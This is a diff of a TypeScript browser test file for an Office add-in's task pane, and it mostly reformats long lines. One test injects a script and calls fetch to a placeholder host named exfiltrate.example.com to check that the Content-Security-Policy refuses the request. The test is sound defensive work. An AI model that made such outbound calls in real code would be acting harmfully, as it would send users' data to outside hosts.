@@ -32,7 +32,10 @@ function directives(html: string): Map<string, string[]> {
 }
 
 const shownMessages = async (page: Page) => (await page.getByTestId('finding-message').allInnerTexts()).sort();
-const messagesOf = (rulebook?: Rulebook) => checkWorkbook(seedWorkbook(), { rulebook }).findings.map((finding) => finding.message.zh).sort();
+const messagesOf = (rulebook?: Rulebook) =>
+  checkWorkbook(seedWorkbook(), { rulebook })
+    .findings.map((finding) => finding.message.zh)
+    .sort();
 
 describe('the Content-Security-Policy', () => {
   it('is in the built taskpane.html, before any script, allowing scripts only from the add-in and Office.js', async () => {
@@ -56,7 +59,12 @@ describe('the Content-Security-Policy', () => {
       script.textContent = 'window.__injected = 1';
       document.body.appendChild(script);
     });
-    const fetched = await page.evaluate(() => fetch('https://exfiltrate.example.com/x').then(() => 'sent', () => 'refused'));
+    const fetched = await page.evaluate(() =>
+      fetch('https://exfiltrate.example.com/x').then(
+        () => 'sent',
+        () => 'refused',
+      ),
+    );
     expect(fetched).toBe('refused');
     await expect(page.evaluate('window.__injected')).resolves.toBeUndefined();
     const refused = (await cspViolations()).map((violation) => violation.directive);
@@ -98,7 +106,9 @@ describe('the organisation rulebook beside the add-in', () => {
     const session = await suite.pane();
     const { page } = session;
     await check(page);
-    await expect(page.getByTestId('rulebook-in-force').innerText()).resolves.toBe(`按“${DEFAULT_RULEBOOK.name.zh}”核对（${DEFAULT_RULEBOOK.id} ${DEFAULT_RULEBOOK.version}，内置）`);
+    await expect(page.getByTestId('rulebook-in-force').innerText()).resolves.toBe(
+      `按“${DEFAULT_RULEBOOK.name.zh}”核对（${DEFAULT_RULEBOOK.id} ${DEFAULT_RULEBOOK.version}，内置）`,
+    );
 
     await chooseOrganisation(page);
     await expect(page.getByTestId('rulebook-organisation-status').innerText()).resolves.toBe(`株洲市财政局规则 2024.3 · ${url()}`);
